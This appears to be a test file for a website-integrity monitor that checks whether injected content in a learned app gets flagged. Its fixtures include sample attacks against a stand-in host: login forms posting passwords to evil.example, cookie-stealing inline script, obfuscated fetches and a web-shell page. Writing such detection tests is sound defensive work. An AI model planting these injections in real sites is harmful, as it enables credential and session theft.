/** What a changed app shows after it was learned, and what is said of it. */
import t from 'tap'
import type { AppMemory } from '../../src/integrity/app-memory.ts'
import type { Severity } from '../../src/integrity/finding.ts'
import { makeFinding } from '../../src/integrity/finding.ts'
import { pathShape } from '../../src/integrity/path-shape.ts'
import { readBody } from '../../src/integrity/read-body.ts'
import { address, learned, named, visit } from './fixture.ts'

const page = (head: string, body: string) =>
  `<!doctype html><html lang=en><head><meta charset=utf-8><title>x</title><script nonce=a src="/static/app.0a1b2c.js"></script>
<script nonce=b>window.csrf = "x1"; start(window.csrf)</script>${head}</head><body class=c><nav><a href="/list">x</a></nav><main id=m>${body}</main></body></html>`
const login = (more = '', action = '/login') =>
  page(
    '',
    `<form method=post action="${action}"><input name=user><input type=password name=p><button>Go</button></form>${more}`
  )
const list = (more = '') => page('', `<ul><li>x</li></ul><form action="/search"><input name=q></form>${more}`)

const app = () =>
  learned([
    ['/login', login()],
    ['/list', list()],
    ['/index.php', page('', '<table><tr><td>1</table>')]
  ])

const shell = '<html><body><pre>uid=33(www-data)</pre><form method=post><input name=cmd></form></body></html>'

/** A sentence, the changed page, what is new among others, and how grave it is. */
const changes: readonly (readonly [
  string,
  path: string,
  html: string | null,
  expected: string,
  Severity,
  method?: string
])[] = [
  [
    'a sign-in form that posts elsewhere',
    '/login',
    login('', 'https://evil.example/x'),
    'form https://evil.example with a password',
    'alarm'
  ],
  [
    'a sign-in form that posts to another path',
    '/login',
    login('', '/uploads/steal'),
    'form /uploads/steal with a password',
    'alarm'
  ],
  [
    'a button that sends the form elsewhere',
    '/login',
    login('<button formaction="//evil.example/">x</button>'),
    'form https://evil.example',
    'alarm'
  ],
  [
    'a foreign script',
    '/list',
    list('<script src="https://evil.example/a/b.js"></script>'),
    'script https://evil.example/a/',
    'alarm'
  ],
  [
    'a script of SVG',
    '/list',
    list('<svg><script xlink:href="https://evil.example/b.js"/></svg>'),
    'script https://evil.example/',
    'alarm'
  ],
  [
    'a script behind a <base> elsewhere',
    '/list',
    list('<base href="https://evil.example/">'),
    'base https://evil.example',
    'alarm'
  ],
  [
    'a script as data:',
    '/list',
    list('<script src="data:text/javascript,fetch(1)"></script>'),
    'script data:',
    'alarm'
  ],
  [
    'a script of an import map',
    '/list',
    list('<script type=importmap>{"imports":{"a":"https://evil.example/a.js"}}</script>'),
    'script https://evil.example/',
    'alarm'
  ],
  [
    'a script file of the app that the page never loaded',
    '/list',
    list('<script src="/uploads/x.js"></script>'),
    'script /uploads/x.js',
    'alarm'
  ],
  [
    'inline code that names an origin',
    '/list',
    list('<script>new Image().src="https://evil.example/?"+document.cookie</script>'),
    'names https://evil.example',
    'alarm'
  ],
  [
    'an origin in escapes',
    '/list',
    list('<script>fetch("\\x68ttps:\\/\\/evil.example\\/")</script>'),
    'names https://evil.example',
    'alarm'
  ],
  [
    'an origin in base64',
    '/list',
    list(`<script>go(atob("${Buffer.from('https://evil.example/x').toString('base64')}"))</script>`),
    'names https://evil.example',
    'alarm'
  ],
  [
    'an origin in a text that is run',
    '/list',
    list(`<script>setTimeout("fetch('https://evil.example/')", 9)</script>`),
    'names https://evil.example',
    'alarm'
  ],
  [
    'an event handler',
    '/login',
    login('<img src=x onerror="import(\'https://evil.example/x.js\')">'),
    'names https://evil.example',
    'alarm'
  ],
  ['a javascript: link', '/list', list('<a href="javascript:steal(document.cookie)">x</a>'), 'code', 'change'],
  [
    'inline code without an address',
    '/list',
    list('<script>document.forms[0].onsubmit = function (e) { keep(e.target) }</script>'),
    'code',
    'change'
  ],
  ['a frame', '/list', list('<iframe src="https://evil.example/"></iframe>'), 'frame https://evil.example', 'alarm'],
  [
    'an object',
    '/list',
    list('<object data="https://evil.example/x.swf"></object>'),
    'frame https://evil.example',
    'alarm'
  ],
  [
    'a script inside srcdoc',
    '/list',
    list('<iframe srcdoc="&lt;script src=https://evil.example/s.js&gt;&lt;/script&gt;"></iframe>'),
    'script https://evil.example/',
    'alarm'
  ],
  [
    'a page that sends people on',
    '/list',
    list('<meta http-equiv=refresh content="0;url=https://evil.example/">'),
    'refresh https://evil.example',
    'alarm'
  ],
  [
    'a foreign style sheet',
    '/list',
    list('<link rel=stylesheet href="https://evil.example/x.css">'),
    'style https://evil.example',
    'change'
  ],
  ['a web shell under /uploads/', '/uploads/shell.php', shell, 'endpoint GET /uploads/shell.php', 'alarm'],
  [
    'a web shell that looks like the app',
    '/uploads/2026/11/x.php',
    list('<p class=z>uid=0</p>'),
    'endpoint GET /uploads/#/#/x.php',
    'alarm'
  ],
  ['a web shell without HTML', '/files/a.phtml/x', null, 'endpoint GET /files/a.phtml/x', 'alarm'],
  ['a web shell of another technology', '/status.jsp', shell, 'endpoint GET /status.jsp', 'alarm'],
  ['a path that accepts POST', '/backdoor', null, 'endpoint POST /backdoor', 'change', 'POST'],
  ['a page where there was none', '/hidden', shell, 'endpoint GET /hidden', 'change'],
  ['HTML among uploaded files', '/uploads/x.html', shell, 'endpoint GET /uploads/x.html', 'alarm']
]

t.test('N1 · one change of an app, after twenty visits of each page → reported once, with a sentence', async t => {
  for (const [sentence, path, html, expected, severity, method] of changes) {
    const memory = app()
    for (const [known, text] of [
      ['/login', login()],
      ['/list', list()]
    ] as const)
      t.equal(visit(memory, known, text, false), null, `${sentence}: the app itself is silent`)
    const novelty = visit(memory, path, html, false, new Set(), method)
    const found = named(novelty?.marks ?? [])
    t.ok(
      found.some(each => (expected === 'code' ? each.startsWith('code ') : each === expected)),
      `${sentence}: ${found.join(' · ')}`
    )
    t.equal(novelty?.severity, severity, sentence)
    if (novelty === null) continue
    const finding = makeFinding('files', pathShape(path), novelty.marks, novelty.severity, 1)
    t.match(finding.why, /^New on \S+ of the app 'files': .+\.$/)
    t.match(finding.id, /^[a-z0-9]{8}$/)
    const open = new Set(novelty.marks.map(({ kind, value }) => `${kind} ${value}`))
    t.equal(visit(memory, path, html, false, open, method), null, `${sentence}: reported once`)
    for (const mark of novelty.marks) memory.known.add(mark)
    t.equal(visit(memory, path, html, false, new Set(), method), null, `${sentence}: approved`)
  }
})

t.test('script files', async t => {
  const file = async (memory: AppMemory, path: string, code: string) => {
    const bytes = new Uint8Array(Buffer.from(code))
    const reading = await readBody({
      kind: 'script',
      bytes,
      isWhole: true,
      coding: '',
      contentType: 'text/javascript',
      address: address(path)
    })
    return named(
      memory.see(
        { page: pathShape(path), endpoint: null, reading, isFetched: false, isStranger: false },
        false,
        new Set()
      )?.marks ?? []
    )
  }
  const memory = app()
  const vendor = 'help("https://vendor.example/docs")'
  t.same(await file(memory, '/static/lazy.0a1b2c.js', vendor), [], 'one that pages load later names what it likes')
  t.same(await file(memory, '/static/app.0a1b2c.js', 'run(1)'), [])
  t.same(await file(memory, '/static/app.ff00aa.js', 'run(2); more(x)'), [], 'a new build under a new name')
  t.match(
    (await file(memory, '/static/app.ee11bb.js', 'run(2); fetch("https://evil.example/")')).join(),
    'names https://evil.example',
    'a new build that names a new origin'
  )
  t.match(
    (await file(memory, '/static/app.0a1b2c.js', 'run(1); keep(document.cookie)')).join(),
    /^file /,
    'changed in place'
  )
})

t.test('the hashes that bundlers put into names are no part of a shape, also where they hold a dash', async t => {
  const builds = {
    '/static/js/StreamlitMarkdown.#.js': [
      'oOG-xoxw',
      'C_gcIYdA',
      '-f9-1zS0',
      'CZTdJmE_',
      '--bxdEY9',
      'DiwrgTda',
      'Dzbslgj4'
    ],
    '/assets/zh-CN-#.js': ['icE_T0Fk', 'Q_Jx2HOP', 'Bx-zXJUH', 'D7w_x-Za'],
    '/_app/immutable/chunks/#.js': ['D7w_x-Za', 'Bx_zXJUH', 'DX0nCbCj']
  }
  for (const [shape, hashes] of Object.entries(builds))
    for (const hash of hashes) t.equal(pathShape(shape.replace('#', hash)), shape, hash)
  t.equal(pathShape('/m/chunk-DSNLSHJZ-CvGMvSe-.js'), '/m/chunk-#.js', 'two of them')
  for (const words of [
    'TeX-AMS_HTML.js',
    'jquery.ui-theme.js',
    'bootstrap-datepicker.en-CA.js',
    'my-Main-App.js',
    'a_b-cdef.js'
  ])
    t.equal(pathShape(`/lib/${words}`), `/lib/${words}`)
})

t.test('what is no report', async t => {
  const memory = app()
  const silent: readonly (readonly [string, path: string, html: string])[] = [
    ['the same page again', '/login', login()],
    ['a page to which the app has linked', '/list', list()],
    ['another page of the same make', '/list/12', list('<p>other</p>')],
    ['a failed sign-in, which shows more', '/login', login('<p class=error>Wrong password</p>')]
  ]
  for (const [sentence, path, html] of silent) t.equal(visit(memory, path, html, false), null, sentence)
})

t.test('a finding has bounds', async t => {
  const marks = Array.from({ length: 5000 }, (_, i) => ({ kind: i % 2 ? 'code' : 'script', value: `x${i}` }) as const)
  const finding = makeFinding('files', '/x', marks, 'alarm', 1)
  t.ok(JSON.stringify(finding).length < 20_000)
  t.equal(finding.items.length + finding.codes.length + finding.left, 5000)
  t.match(finding.why, / more things are new\.$/)
  const [script, form, names, own] = [
    { kind: 'script', value: 'https://cdn.evil.example/' },
    { kind: 'form', value: 'https://evil.example with a password' },
    { kind: 'names', value: 'https://steal.example' },
    { kind: 'script', value: '/static/b.js' }
  ] as const
  t.match(
    makeFinding('files', '/x', [own, script, form, names], 'alarm', 1).why,
    /sent to https:\/\/evil\.example; it loads a script from https:\/\/cdn\.evil\.example\/; code names https:\/\/steal\.example; 1 more thing is new\.$/,
    'every place elsewhere is named'
  )
})
